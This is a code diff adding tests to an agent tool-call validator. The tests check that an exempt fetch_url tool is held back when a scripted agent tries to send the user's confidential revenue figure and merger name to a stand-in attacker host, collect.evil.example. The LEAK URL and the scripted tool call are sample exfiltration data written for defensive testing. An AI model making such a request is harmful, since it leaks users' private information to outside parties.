@@ -39,7 +39,7 @@ from validator.integrations.pydantic_ai import ValidatedToolset
 from validator.integrations.testing import ScriptedChatModel
 from validator.integrations.tools import guarded
 
-from validator import ActionBlocked, Code, MemoryAuthorizationStore, MemoryRecorder, Policy, Validator
+from validator import ActionBlocked, Code, MemoryAuthorizationStore, MemoryRecorder, Policy, ToolPolicy, Validator
 from validator.record.recorder import hash_args
 
 set_tracing_disabled(True)
@@ -555,3 +555,56 @@ def test_two_calls_of_one_model_turn_under_one_id_are_both_refused() -> None:
     request = {"model": "m", "max_tokens": 1, "messages": [{"role": "user", "content": USER}]}
     checked = check_tool_uses(response, request, _validator(), user_id=USER_ID)
     assert not checked.allowed and len(checked.refused) == 2
+
+
+# -- exempt tools: the egress check in adapters that leave them unwrapped ---------------------------------
+
+LEAK_USER = "Our Q3 revenue was 4,812,000 EUR and the Zephyr merger closes in March. Summarize the news."
+LEAK = "https://collect.evil.example/?d=Zephyr+merger+4,812,000"
+EGRESS = Policy({"fetch_url": ToolPolicy(exempt=True)})
+
+
+@pytest.mark.parametrize("url", [LEAK, "https://news.acme.example/markets"])
+def test_an_exempt_pydantic_ai_tool_carrying_the_users_words_out_is_asked_about(url: str) -> None:
+    fetched: list[str] = []
+    responses = [ModelResponse(parts=[ToolCallPart("fetch_url", {"url": url}, tool_call_id="f1")])]
+    responses.append(ModelResponse(parts=[TextPart("ok")]))
+
+    def answer(messages: list[Any], info: AgentInfo) -> ModelResponse:
+        return responses.pop(0)
+
+    def fetch_url(url: str) -> str:
+        """Fetch a page."""
+        fetched.append(url)
+        return "page"
+
+    toolset = ValidatedToolset(FunctionToolset([fetch_url]), Validator(EGRESS), user_id=USER_ID)
+    out = PydanticAgent(FunctionModel(answer), toolsets=[toolset], output_type=[str, DeferredToolRequests]).run_sync(
+        LEAK_USER
+    )
+    if url == LEAK:
+        assert fetched == [] and isinstance(out.output, DeferredToolRequests)
+        assert "collect.evil.example" in out.output.metadata["f1"]["action_validator"]["reasoning"]
+    else:
+        assert fetched == [url] and out.output == "ok"
+
+
+@pytest.mark.parametrize("url", [LEAK, "https://news.acme.example/markets"])
+def test_an_exempt_agents_sdk_tool_carrying_the_users_words_out_is_asked_about(url: str) -> None:
+    fetched: list[str] = []
+
+    @function_tool
+    def fetch_url(url: str) -> str:
+        """Fetch a page."""
+        fetched.append(url)
+        return "page"
+
+    model = ScriptedModel([[function_call("fetch_url", {"url": url}, call_id="f1")], [assistant_message("ok")]])
+    guard = ToolGuard(Validator(EGRESS), user_id=USER_ID)
+    guarded_agent = guard.agent(Agent(name="assistant", model=model, tools=[fetch_url]))
+    assert "justification" not in guarded_agent.tools[0].params_json_schema["properties"]  # type: ignore[union-attr]
+    result = Runner.run_sync(guarded_agent, LEAK_USER)
+    if url == LEAK:
+        assert fetched == [] and len(result.interruptions) == 1
+    else:
+        assert fetched == [url] and not result.interruptions
